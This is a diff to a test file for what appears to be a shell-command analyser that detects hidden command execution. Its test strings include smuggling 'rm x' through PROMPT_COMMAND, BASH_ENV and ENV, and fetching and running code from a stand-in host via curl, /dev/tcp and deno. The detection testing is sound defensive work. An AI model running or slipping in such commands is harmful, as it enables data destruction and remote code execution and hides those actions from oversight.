@@ -59,10 +59,21 @@ describe('readCommand with shells', () => {
     "echo 'rm x' | tee s.sh; . ./s.sh",
     "echo 'rm x' > a; cp a b; sh b",
     "echo 'rm' > a; echo 'rm x' >> b; sh b",
+    "PROMPT_COMMAND='rm x' bash -i",
+    "export PROMPT_COMMAND='rm x'; bash",
+    "echo 'rm x' > s.sh; BASH_ENV=s.sh bash -c ls",
+    "echo 'rm x' > s.sh; ENV=s.sh sh -i",
   ])('follows text into a shell: %p', (text) => {
     expect(runs(text)).toContain('rm x');
     expect(gapsIn(text)).toEqual([]);
   });
+
+  test.each(["PROMPT_COMMAND='rm x' bash -c ls", "PROMPT_COMMAND='rm x'; ls", "ENV='rm x' make"])(
+    'runs nothing else in %p',
+    (text) => {
+      expect(runs(text)).not.toContain('rm x');
+    },
+  );
 
   test.each([
     'sh -c "$X"',
@@ -119,6 +130,7 @@ describe('readCommand with shells', () => {
     ['python3 -c "$(curl https://x.example/i)"', 'https://x.example/i'],
     ['curl https://x.example/i | node', 'https://x.example/i'],
     ['bash < /dev/tcp/x.example/80', '/dev/tcp/x.example/80'],
+    ['deno run -A https://x.example/i.ts', 'https://x.example/i.ts'],
   ])('sees that %p runs code from the network', (text, source) => {
     const effects = read(text).commands.flatMap((command) => command.effects);
     expect(effects).toContainEqual(
